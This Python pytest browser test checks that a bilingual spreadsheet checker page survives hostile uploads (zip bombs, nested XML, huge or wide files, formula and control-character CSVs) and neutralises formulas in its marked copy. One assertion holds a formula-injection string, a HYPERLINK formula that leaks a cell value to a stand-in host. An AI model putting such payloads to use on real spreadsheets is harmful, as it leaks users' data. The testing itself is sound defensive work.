"""Hostile files on the checker page in Chromium: each gets a message in the page's language, then a good file is checked.

The files are those of the command's suite (``hostile_files``): amplified shared
strings, zip bombs, 20 000 columns, deeply nested XML (which overflows the
browser's stack: the page restarts its checker), a name of 300 bytes, a file
over the page's limit, formulas and control characters (whose marked copy the
page builds with the command's own module).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from checkerkit import Traffic, drop, serve, wait_ready

from checker_files import csv_bytes, repair_rows
from handbook.registers.limits import MAX_PAGE_FILE_BYTES
from hostile_files import (
    amplified_shared_string,
    control_csv,
    deeply_nested,
    formula_csv,
    ods_bomb,
    spaces_bomb,
    wide_workbook,
)

pytestmark = pytest.mark.browser

HOSTILE = [
    ("amplified.xlsx", amplified_shared_string),
    ("spaces.xlsx", lambda: spaces_bomb(300)),
    ("bomb.ods", ods_bomb),
    ("wide.xlsx", wide_workbook),
    ("deep.xlsx", deeply_nested),
    ("维修回访" * 30 + ".csv", lambda: csv_bytes(repair_rows(3))),  # 364 bytes of name
]
#: what no person should ever read on the page
NEVER = re.compile(r"Traceback|Maximum call stack|PythonError|File \"/|\bat .*\.wasm")


@pytest.fixture(scope="module")
def origin(site: Path) -> Iterator[str]:
    with serve(site) as url:
        yield url


@pytest.fixture
def checker_page(context, origin: str, request):  # type: ignore[no-untyped-def]
    lang = request.param
    traffic = Traffic(context, origin)
    page = context.new_page()
    page.goto(f"{origin}/checker/" if lang == "zh" else f"{origin}/en/checker/")
    wait_ready(page)
    yield page, lang
    page.close()
    context.unroute("**/*", traffic.route)
    assert traffic.problems() == [], "a request left the origin or sent data"


def settle(page) -> tuple[str, str, str]:  # type: ignore[no-untyped-def]
    """Wait for the page to finish with a file; its state, status line and result text."""
    page.wait_for_function(
        "() => ['done', 'error'].includes(document.querySelector('.hb-checker__status').dataset.state)",
        timeout=240_000,
    )
    state = page.eval_on_selector(".hb-checker__status", "e => e.dataset.state")
    status = page.eval_on_selector(".hb-checker__status", "e => e.textContent")
    result = page.eval_on_selector(".hb-checker__result", "e => e.hidden ? '' : e.innerText")
    return state, status, result


def in_language(text: str, lang: str, name: str) -> bool:
    """Whether ``text`` (its file name taken out) is a sentence in the page's language."""
    text = text.replace(name, "")
    chinese = re.search(r"[\u4e00-\u9fff]{4}", text)
    english = re.search(r"[A-Za-z]{3,} [a-z]{2,} [a-z]{2,}", text)
    return bool(chinese) if lang == "zh" else bool(english)  # (columns keep their own titles)


@pytest.mark.parametrize("checker_page", ["zh", "en"], indirect=True)
def test_each_hostile_file_gets_a_message_then_a_good_file_is_checked(checker_page) -> None:  # type: ignore[no-untyped-def]
    page, lang = checker_page
    good = csv_bytes(repair_rows(3))
    for name, make in HOSTILE:
        drop(page, name, make())
        state, status, result = settle(page)
        said = f"{status}\n{result}"
        assert not NEVER.search(said), (name, said)
        assert in_language(said, lang, name), (name, said)
        if state == "error":  # the checker failed and restarted: the reason stays on screen
            assert "重新启动" in status or "restarted" in status, (name, status)
            wait_ready(page)
        else:
            assert page.eval_on_selector(".hb-checker__result", "e => e.dataset.verdict")
        drop(page, "维修回访.csv", good)
        state, status, result = settle(page)
        assert state == "done", (name, status)
        assert page.eval_on_selector(".hb-checker__result", "e => e.dataset.verdict") == "valid"


@pytest.mark.parametrize("checker_page", ["en"], indirect=True)
def test_a_file_over_the_pages_limit_is_not_read(checker_page) -> None:  # type: ignore[no-untyped-def]
    page, _lang = checker_page
    page.evaluate(
        """size => {
          const transfer = new DataTransfer();
          transfer.items.add(new File([new Uint8Array(size)], 'huge.csv'));
          document.querySelector('.hb-checker__drop').dispatchEvent(
            new DragEvent('drop', {dataTransfer: transfer, bubbles: true, cancelable: true}));
        }""",
        MAX_PAGE_FILE_BYTES + 1,
    )
    state, status, _ = settle(page)
    assert state == "error" and "huge.csv" in status and "MB" in status


@pytest.mark.parametrize("checker_page", ["zh"], indirect=True)
def test_the_pages_marked_copy_holds_no_formula_and_keeps_control_characters(
    checker_page, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook
    from python_calamine import CalamineWorkbook

    page, _lang = checker_page
    for name, data in (("公式.csv", formula_csv()), ("控制字符.csv", control_csv())):
        drop(page, name, data)
        assert settle(page)[0] == "done"
        with page.expect_download(timeout=240_000) as download:
            page.click(".hb-checker__annotate")
        saved = tmp_path / download.value.suggested_filename
        download.value.save_as(saved)
        book = load_workbook(saved)
        formulas = [
            c.coordinate
            for s in book.worksheets
            for r in s.iter_rows()
            for c in r
            if c.data_type == "f"
        ]
        assert formulas == [], name
        rows = CalamineWorkbook.from_path(str(saved)).get_sheet_by_index(1).to_python()
        remarks = {row[rows[0].index("备注")] for row in rows[1:]}
        if name == "控制字符.csv":
            assert "第一行\x0b第二行" in remarks
        else:
            assert '=HYPERLINK("http://example.invalid/?leak="&A1,"click")' in remarks
